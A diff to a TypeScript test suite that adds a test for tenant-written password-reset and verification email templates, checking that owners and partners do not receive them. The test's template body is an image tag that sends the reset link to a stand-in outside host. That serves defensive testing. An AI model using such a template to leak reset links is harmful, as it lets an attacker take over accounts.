@@ -1,10 +1,10 @@
 import { beforeEach, describe, expect, it } from 'vitest'
 import { isResetTicketLive, requestPasswordReset } from '~/domain/users/reset-password'
 import { MINUTE } from '~/platform/durations'
-import { listDomainConnections } from '~db/queries/connections'
+import { listConnections, listDomainConnections } from '~db/queries/connections'
 import { findEmailTemplate, updateEmailTemplate } from '~db/queries/email-templates'
 import { visitorContext } from '~tests/support/context'
-import { createEndUser } from '~tests/support/people'
+import { createEndUser, createPartner, findOwner } from '~tests/support/people'
 import { createManagementWorld, type ManagementWorld } from './management-world'
 
 let world: ManagementWorld
@@ -62,6 +62,23 @@ describe('a mail that the tenant has written', () => {
     expect(await isResetTicketLive(ctx, ticket)).toBe(true)
     world.services.clock.advance(1 * MINUTE)
     expect(await isResetTicketLive(ctx, ticket)).toBe(false)
+  })
+
+  it('is for end users: nobody who writes it learns the links of owners and partners', async () => {
+    const body = '<img src="https://stranger.example.com/?{{ url }}">'
+    for (const template of ['reset_email', 'verify_email']) await create({ template, body, subject: 'Look' })
+    const { services } = world
+    const [owner, partner] = [await findOwner(services), await createPartner(services, { isVerified: false })]
+    expect(services.mailer.last(partner.email).subject).not.toBe('Look')
+    for (const { email, connectionId } of [owner, partner]) {
+      const connections = (await listConnections(services.db, {})).filter(({ id }) => id === connectionId)
+      await requestPasswordReset(visitorContext(services), connections, email, '/admin/reset-password')
+      expect(services.mailer.last(email).subject).not.toBe('Look')
+      const ticket = services.mailer.link(email).searchParams.get('ticket') ?? ''
+      services.clock.advance(11 * MINUTE)
+      expect(await isResetTicketLive(visitorContext(services), ticket)).toBe(true)
+    }
+    expect((await resetMail()).subject).toBe('Look')
   })
 
   it('takes no markup from what people call themselves', async () => {
